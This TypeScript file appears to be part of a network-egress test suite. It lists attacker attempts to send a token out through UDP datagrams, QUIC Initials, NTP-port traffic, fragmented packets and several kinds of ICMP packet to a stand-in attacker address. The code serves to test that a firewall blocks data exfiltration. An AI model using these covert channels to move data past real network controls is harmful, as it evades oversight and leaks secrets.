/** UDP and ICMP in every shape. */
import type {Attacker, Attempt} from '../attempt.ts';
import {EVIL, SITES} from '../addresses.ts';

const way = (id: string, title: string, attempt: (by: Attacker) => Promise<unknown>): Attempt => ({
  id: `datagrams-${id}`,
  title,
  invariant: 3,
  attempt: async (by) => void (await attempt(by)),
  control: 'free',
});

/** A QUIC version 1 Initial, as far as a middlebox reads it (RFC 9000 §17.2.2): long header, version, connection ids, token. */
const quicInitial = (token: string): string =>
  `\xc3\x00\x00\x00\x01\x08${token.slice(0, 8)}\x00${String.fromCharCode(token.length)}${token}`.padEnd(1200, '\0');

export const DATAGRAMS: readonly Attempt[] = [
  way('udp', 'UDP to an address that no rule holds', (by) => by.datagram(EVIL[4], 9999, by.token)),
  way('udp-allowed', 'UDP to the port of an allowed site', (by) => by.datagram(SITES.allowed, 443, by.token)),
  way('quic', 'a QUIC Initial to an allowed site', (by) => by.datagram(SITES.allowed, 443, quicInitial(by.token))),
  way('ntp', 'UDP on the port of NTP', (by) => by.datagram(EVIL[4], 123, by.token)),
  way('big', 'a datagram so long that it travels in fragments', (by) =>
    by.datagram(EVIL[4], 9999, by.token.repeat(400)),
  ),
  way('echo', 'ping with something to say', (by) => by.program('raw', 'ping', EVIL[4], by.token)),
  way('icmp-timestamp', 'an ICMP timestamp request', (by) => by.program('raw', 'icmp', EVIL[4], '13', '0', by.token)),
  way('icmp-unreachable', 'an ICMP error that belongs to no connection', (by) =>
    by.program('raw', 'icmp', EVIL[4], '3', '1', by.token),
  ),
  way('icmp-reply', 'an echo reply that nobody asked for', (by) =>
    by.program('raw', 'icmp', EVIL[4], '0', '0', by.token),
  ),
  way('curl-http3', 'UDP 443 to an address in the rule for literals', (by) =>
    by.datagram('198.51.100.20', 8088, by.token),
  ),
];
